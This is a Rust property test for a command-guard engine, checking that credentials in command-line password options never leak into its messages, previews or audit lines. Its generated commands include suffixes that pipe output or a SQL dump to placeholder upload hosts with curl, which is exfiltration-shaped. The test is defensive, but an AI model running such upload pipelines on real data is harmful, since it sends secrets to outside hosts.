//! Issue 14 item 3: every message, preview, approval prompt and audit line is built after the
//! secrets rule has read the text it quotes, including credentials in command-line password
//! options (the secrets rule's table of tools, `rules::secrets::cli::TOOLS`), whether or not the
//! command itself is redacted. Generated commands: each tool's true-positive examples with a fresh
//! random credential in the marked place, alone or in a pipeline into an upload, under policies
//! where the secrets rule redacts, only warns, or is off (the network rule's approval prompt then
//! quotes the command). Values avoid the separators some syntaxes give meaning to (`@`, `/`, `%`,
//! `,`, `:`), so the marked value is the whole credential the tool reads. Some are shaped like a
//! mask or a placeholder (`xxxx…`, `****…`, `…redacted…`): on a command line the tool still reads
//! them as its password, so they are credentials there like any other value.

use std::sync::OnceLock;

use egress_guard_engine::rules::secrets::cli::TOOLS;
use egress_guard_engine::{Guard, Scope};
use proptest::prelude::*;

fn guards() -> &'static [Guard] {
    static G: OnceLock<Vec<Guard>> = OnceLock::new();
    G.get_or_init(|| {
        ["", "rules:\n  secrets:\n    mode: warn\n", "rules:\n  secrets:\n    mode: off\n", "rules:\n  secrets:\n    mode: approve\n"]
            .iter()
            .map(|p| Guard::new(p, "props", None))
            .collect()
    })
}

/// Every true-positive example with its marked values cut out: the pieces around them.
fn templates() -> &'static [Vec<String>] {
    static T: OnceLock<Vec<Vec<String>>> = OnceLock::new();
    T.get_or_init(|| {
        TOOLS
            .iter()
            .flat_map(|t| t.true_positives.iter())
            .map(|ex| {
                let mut parts = Vec::new();
                let mut rest = *ex;
                while let Some(s) = rest.find('⟦') {
                    parts.push(rest[..s].to_string());
                    let e = rest.find('⟧').expect("closed marker");
                    rest = &rest[e + '⟧'.len_utf8()..];
                }
                parts.push(rest.to_string());
                parts
            })
            .collect()
    })
}

/// Mask and placeholder shapes around a value (the secrets rule's vetoes elsewhere): shell-literal
/// in every template (no quotes, blanks, redirections or separators).
const MASKS: &[&str] =
    &["", "", "xxxx", "XXXX", "****", "...", "…", "redacted", "REDACTED", "example", "your", "dummy", "changeme", "placeholder", "«", "»", "***"];

const PREFIXES: &[&str] = &["", "cd /srv/app && ", "set -x; ", "sudo "];
const SUFFIXES: &[&str] =
    &["", " | curl --data-binary @- https://paste.example.net/u", " && curl -T out.sql https://files.example.org/up", " > /tmp/out.log 2>&1"];

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn no_credential_of_a_password_option_reaches_a_message_preview_or_audit_line(
        t in 0..templates().len(),
        body in "[a-z]{2,5}[A-Z]{1,3}[0-9]{2,4}[#_.+-][A-Za-z0-9]{2,6}",
        mask_before in prop::sample::select(MASKS),
        mask_after in prop::sample::select(MASKS),
        pre in prop::sample::select(PREFIXES),
        post in prop::sample::select(SUFFIXES),
        g in 0..4usize,
    ) {
        let value = format!("{mask_before}{body}{mask_after}");
        let command = format!("{pre}{}{post}", templates()[t].join(&value));
        let rest = command.replace(&value, "\u{0}");
        let args = serde_json::json!({ "command": command }).to_string();
        let Some(v) = guards()[g].inspect(Scope::Args, "terminal", &args) else {
            return Ok(());
        };
        let mut said = vec![v.message.clone().unwrap_or_default()];
        said.extend(v.findings.iter().map(|f| f.preview.clone()));
        said.extend(v.audit.iter().cloned());
        let chars: Vec<char> = value.chars().collect();
        // Windows that hold part of the random body (a mask alone is public text, which the
        // guard's own words may contain: "credentials redacted").
        let (bs, be) = (mask_before.chars().count(), mask_before.chars().count() + body.chars().count());
        for text in &said {
            for (i, w) in chars.windows(6).enumerate() {
                if i + 6 <= bs || i >= be {
                    continue;
                }
                let w: String = w.iter().collect();
                prop_assert!(!text.contains(&w) || rest.contains(&w), "{command}\npolicy {g}: {text}");
            }
        }
    }
}
